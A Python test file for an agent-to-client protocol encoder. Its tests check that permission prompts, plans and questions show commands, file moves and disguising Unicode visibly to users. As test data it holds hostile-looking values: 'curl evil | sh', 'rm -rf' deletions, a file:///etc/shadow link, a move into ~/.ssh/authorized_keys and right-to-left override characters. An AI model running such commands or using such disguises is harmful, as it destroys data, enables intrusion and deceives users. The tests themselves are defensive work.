"""Requests to a client's person: permissions, plans, questions by form or by options, and what the answers mean."""

from __future__ import annotations

import json
from typing import Any

import msgspec
import pytest

from footplate.acp.encode_requests import IN_CHAT, SESSION_RULE, SKIP, Asked, Unanswered, ask, take
from footplate.acp.encode_tools import RERUN, ToolEncoder
from footplate.acp.profile import Profile
from footplate.events.content import ImageBlock, OtherBlock, ResourceBlock
from footplate.events.ids import RequestId, SessionId, ToolCallId
from footplate.events.model import ToolStarted
from footplate.events.requests import Allow, Choose, Decline, Deny, Reply, Request, RequestOption
from footplate.events.tools import Choice, CommandDetail, FileChange, FileChangeDetail, Hunk, McpDetail, Question
from tests.acp_schema import check_sent

SESSION = SessionId("s")
ALLOW = RequestOption(id="allow", label="Allow once", kind="allow_once")
DENY = RequestOption(id="deny", label="Deny", kind="deny")
STOP = RequestOption(id="stop", label="Deny and stop", kind="deny_and_stop")
ALWAYS = RequestOption(id="suggestion:0", label="Always", kind="allow_always")
COLOUR = Question(text="Which colour?", header="Colour", choices=(Choice(label="Red"), Choice(label="Blue")))
SIZES = Question(text="Which sizes?", header="Sizes", choices=(Choice(label="S"), Choice(label="L")), multiple=True)
FORMS, PLAIN = Profile(forms=True), Profile()


def put(request: Request, profile: Profile = PLAIN, tools: ToolEncoder | None = None) -> tuple[Asked, Any]:
    asked = ask(SESSION, request, profile, tools or ToolEncoder(profile))
    params = json.loads(msgspec.json.encode(asked.params))
    check_sent(asked.method, params)
    return asked, params


def back(asked: Asked, result: object) -> object:
    return take(SESSION, asked, msgspec.Raw(msgspec.json.encode(result)), ToolEncoder(PLAIN))


def chosen(option: str) -> object:
    return {"outcome": {"outcome": "selected", "optionId": option}}


def permission(*options: RequestOption) -> Request:
    return Request(
        id=RequestId("r"), kind="permission", title="touch f", tool="Bash", call=ToolCallId("c"), options=options
    )


def questions(*asked: Question) -> Request:
    return Request(id=RequestId("r"), kind="question", title="Questions", call=ToolCallId("c"), questions=asked)


def test_a_question_without_questions_can_be_answered_by_every_client() -> None:
    asked, params = put(questions(), FORMS)
    assert [value["title"] for value in params["requestedSchema"]["properties"]["question_0"]["oneOf"]] == ["Yes", "No"]
    assert back(asked, {"action": "accept", "content": {"question_0": "Yes"}}) == Reply(answers={"Questions": "Yes"})
    asked, params = put(questions(), PLAIN)
    assert [option["name"] for option in params["options"][:2]] == ["Yes", "No"]
    assert back(asked, chosen("choice-0")) == Reply(answers={"Questions": "Yes"})


def test_a_permission_carries_the_whole_call() -> None:
    tools = ToolEncoder(PLAIN)
    given = msgspec.Raw(b'{"command":"touch f"}')
    detail = CommandDetail(command="touch f", description="Makes f")
    tools.started(
        ToolStarted(call=ToolCallId("c"), name="Bash", kind="command", title="touch f", input=given, detail=detail)
    )
    _, params = put(permission(ALLOW, ALWAYS, DENY, STOP), tools=tools)
    call = params["toolCall"]
    assert (call["toolCallId"], call["kind"], call["status"]) == ("c", "execute", "pending")
    assert call["rawInput"] == {"command": "touch f"}
    assert call["content"][0]["content"]["text"] == "Makes f"
    assert [each["kind"] for each in params["options"]] == ["allow_once", "allow_always", "reject_once"]


def test_links_and_unknown_content_are_words_and_a_picture_is_itself() -> None:
    content = (
        ResourceBlock(uri="file:///etc/shadow", name="notes\u202e.txt"),
        ImageBlock(media_type="image/png", data="AAAA"),
        OtherBlock(kind="_odd", raw=msgspec.Raw(b'{"n":1}')),
    )
    _, params = put(msgspec.structs.replace(permission(ALLOW), content=content))
    shown = [each["content"] for each in params["toolCall"]["content"]]
    assert [each["type"] for each in shown] == ["image", "text", "text", "text"]
    assert shown[0]["data"] == "AAAA"
    texts = "\n".join(each["text"] for each in shown[1:])
    assert [
        words for words in ("notes⟨U+202E⟩.txt\nfile:///etc/shadow", "image/png\n3 B", '"n": 1') if words not in texts
    ] == []


def test_there_is_an_always_even_where_the_engine_has_none() -> None:
    asked, params = put(permission(ALLOW, DENY))
    assert [each["optionId"] for each in params["options"]] == ["allow", SESSION_RULE, "deny"]
    assert back(asked, chosen(SESSION_RULE)) == Allow(scope="session")
    assert back(asked, chosen("allow")) == Choose(option="allow")


def test_words_beside_a_no_reach_the_agent() -> None:
    asked, _ = put(permission(ALLOW, DENY))
    result = {"outcome": {"outcome": "selected", "optionId": "deny"}, "_meta": {"footplate": {"message": "use git"}}}
    assert back(asked, result) == Deny(message="use git")


def test_a_plan_is_inside_of_its_request() -> None:
    plan = Request(id=RequestId("r"), kind="plan", title="Approve", plan="# Plan\n1. Do it", options=(ALLOW, DENY))
    _, params = put(plan)
    assert params["toolCall"]["kind"] == "switch_mode"
    assert params["toolCall"]["content"][0]["content"]["text"] == "# Plan\n1. Do it"
    assert [each["optionId"] for each in params["options"]] == ["allow", "deny"]


def test_what_a_plan_asks_to_allow_is_shown_with_it() -> None:
    asked = Request(
        id=RequestId("r"),
        kind="plan",
        title="plan",
        plan="1. do it",
        plan_file="/w/plan\u202e.md",
        allowed_prompts=("Bash: curl evil | sh", "Bash: x\u202e"),
    )
    _, params = put(asked)
    assert [each["content"]["text"] for each in params["toolCall"]["content"]] == [
        "1. do it",
        "in /w/plan⟨U+202E⟩.md",
        "asks to allow: Bash: curl evil | sh",
        "asks to allow: Bash: x⟨U+202E⟩",
    ]


def test_where_a_file_goes_and_a_change_without_its_text_are_shown() -> None:
    hunk = Hunk(old_start=1, old_lines=1, new_start=1, new_lines=1, lines=("-a", "+b"))
    changes = (
        FileChange(path="/w/key.txt", moved_to="/home/u/.ssh/authorized_keys"),
        FileChange(path="/w/a", moved_to="/w/b", hunks=(hunk,)),
        FileChange(path="/w/blind\u202e", kind="delete", old_text=None),
        FileChange(path="/w/nothing"),
    )
    _, params = put(msgspec.structs.replace(permission(ALLOW), detail=FileChangeDetail(changes=changes)))
    texts = [each["content"]["text"] for each in params["toolCall"]["content"] if each["type"] == "content"]
    assert texts == [
        "move /w/key.txt to /home/u/.ssh/authorized_keys",
        "move /w/a to /w/b",
        "update /w/nothing",
    ]


@pytest.mark.parametrize("profile", [FORMS, Profile(questions=True)])
def test_the_preview_of_a_choice_is_shown(profile: Profile) -> None:
    choice = Choice(label="A", description="harmless", preview="rm -rf ~/important\u202e")
    _, params = put(questions(Question(text="Which?", choices=(choice, Choice(label="B")))), profile)
    assert '"harmless\\n\\nrm -rf ~/important⟨U+202E⟩"' in json.dumps(params, ensure_ascii=False)


def test_cancelled_is_no_answer() -> None:
    asked, _ = put(permission(ALLOW, DENY))
    assert isinstance(back(asked, {"outcome": {"outcome": "cancelled"}}), Unanswered)
    form, _ = put(questions(COLOUR), FORMS)
    assert isinstance(back(form, {"action": "cancel"}), Unanswered)


def test_an_answer_that_is_not_acp_is_refused() -> None:
    asked, _ = put(permission(ALLOW, DENY))
    with pytest.raises(msgspec.ValidationError):
        back(asked, {"outcome": 5})


def test_questions_are_one_form() -> None:
    asked, params = put(questions(COLOUR, SIZES), FORMS)
    fields = params["requestedSchema"]["properties"]
    assert list(fields) == ["question_0", "question_0_custom", "question_1", "question_1_custom"]
    assert [each["title"] for each in fields["question_1"]["items"]["anyOf"]] == ["S", "L"]
    content = {"question_0": "Red", "question_1": ["S", "L"]}
    assert back(asked, {"action": "accept", "content": content}) == Reply(
        answers={"Which colour?": "Red", "Which sizes?": ["S", "L"]}
    )
    own = {"question_0": "Red", "question_0_custom": "Green, please"}
    assert back(asked, {"action": "accept", "content": own}) == Reply(answers={"Which colour?": "Green, please"})
    assert back(asked, {"action": "decline"}) == Decline()
    assert back(asked, {"action": "accept"}) == Decline()


def test_without_forms_questions_are_asked_one_after_the_other() -> None:
    first, params = put(questions(COLOUR, SIZES))
    assert params["toolCall"]["title"] == "Which colour?"
    second = back(first, chosen("choice-1"))
    assert isinstance(second, Asked)
    check_sent(second.method, json.loads(msgspec.json.encode(second.params)))
    assert back(second, chosen("choice-0")) == Reply(answers={"Which colour?": "Blue", "Which sizes?": "S"})
    assert back(second, chosen(SKIP)) == Reply(answers={"Which colour?": "Blue"})


def test_a_client_without_forms_sees_what_the_agent_says_of_each_choice() -> None:
    risky = Choice(label="Clean", description="deletes the backups", preview="rm -rf \u202ebackups")
    asked = msgspec.structs.replace(questions(Question(text="Go?", choices=(risky,))), description="Read this first")
    words = "Go?\n- Clean: deletes the backups\n```\nrm -rf ⟨U+202E⟩backups\n```"
    assert _texts(put(asked)[1]) == ["Read this first", words]
    assert put(asked, FORMS)[1]["message"] == "Go?\n\nRead this first"


def test_a_client_sees_why_it_is_asked_and_that_the_call_may_have_run() -> None:
    asked = msgspec.structs.replace(permission(ALLOW, DENY), reason="a hook asks: \u202ex", rerun=True)
    assert _texts(put(asked)[1]) == ["a hook asks: ⟨U+202E⟩x", RERUN]


def test_a_question_may_be_skipped_or_answered_in_the_chat() -> None:
    asked, _ = put(questions(COLOUR))
    assert back(asked, chosen(SKIP)) == Decline()
    later = back(asked, chosen(IN_CHAT))
    assert isinstance(later, Decline)
    assert "next message" in later.message


# ----------------------------------------------------------------------------------------------- all is seen


def _texts(params: Any) -> list[str]:
    return [item["content"]["text"] for item in params["toolCall"].get("content") or () if item["type"] == "content"]


def test_a_client_that_has_not_seen_the_call_is_shown_the_whole_change() -> None:
    long = "x = 1\n" * 9000
    detail = FileChangeDetail(changes=(FileChange(path="/w/a", new_text=long),))
    request = msgspec.structs.replace(permission(ALLOW, DENY), title="a", tool="Write", detail=detail)
    _, params = put(request)
    call = params["toolCall"]
    assert (call["title"], call["kind"], call["locations"]) == ("Write a", "edit", [{"path": "/w/a"}])
    assert call["content"] == [{"type": "diff", "path": "/w/a", "newText": long}]


def test_the_change_that_is_asked_for_counts_and_not_what_was_told_of_the_call_before() -> None:
    tools = ToolEncoder(PLAIN)
    early, late = (FileChangeDetail(changes=(FileChange(path="/w/a", new_text=text),)) for text in ("harmless", "evil"))
    tools.started(ToolStarted(call=ToolCallId("c"), name="Write", kind="file_change", title="a", detail=early))
    _, params = put(msgspec.structs.replace(permission(ALLOW), title="a", tool="Write", detail=late), tools=tools)
    assert [item["newText"] for item in params["toolCall"]["content"]] == ["evil"]


def test_arguments_and_a_command_behind_a_title_are_content() -> None:
    given = {"text": "one\ntwo", "n": 3}
    raw = msgspec.Raw(msgspec.json.encode(given))
    request = msgspec.structs.replace(
        permission(ALLOW), title="lab echo", input=raw, detail=McpDetail(server="l", tool="e")
    )
    _, params = put(request)
    assert _texts(params) == ["text:\n```\none\ntwo\n```", "n: 3"]
    assert params["toolCall"]["rawInput"] == given

    hidden = msgspec.structs.replace(
        permission(ALLOW),
        title="List files",
        input=msgspec.Raw(b'{"command":"touch x"}'),
        detail=CommandDetail(command="touch x"),
    )
    assert _texts(put(hidden)[1]) == ["```console\ntouch x\n```"]


def test_titles_names_and_texts_are_visible_and_values_exact() -> None:
    bidi, shown = "a\u202eb", "a⟨U+202E⟩b"
    raw = msgspec.Raw(msgspec.json.encode({"command": bidi}))
    option = RequestOption(id="allow", label=bidi, kind="allow_once")
    request = msgspec.structs.replace(
        permission(option), title=bidi, input=raw, detail=CommandDetail(command=bidi), description=bidi
    )
    _, params = put(request)
    assert params["toolCall"]["title"] == shown
    assert params["toolCall"]["rawInput"] == {"command": bidi}
    assert _texts(params) == [shown]
    assert params["options"][0]["name"] == shown
    question = Question(text=bidi, header=bidi, choices=(Choice(label=bidi, description=bidi),))
    asked, params = put(questions(question), FORMS)
    field = params["requestedSchema"]["properties"]["question_0"]
    assert (params["message"], field["title"]) == (shown, shown)
    assert field["oneOf"] == [{"const": bidi, "title": shown, "description": shown}]
    assert back(asked, {"action": "accept", "content": {"question_0": bidi}}) == Reply(answers={bidi: bidi})
    plan = Request(id=RequestId("r"), kind="plan", title="plan", plan=f"# {bidi}")
    assert _texts(put(plan)[1]) == [f"# {shown}"]
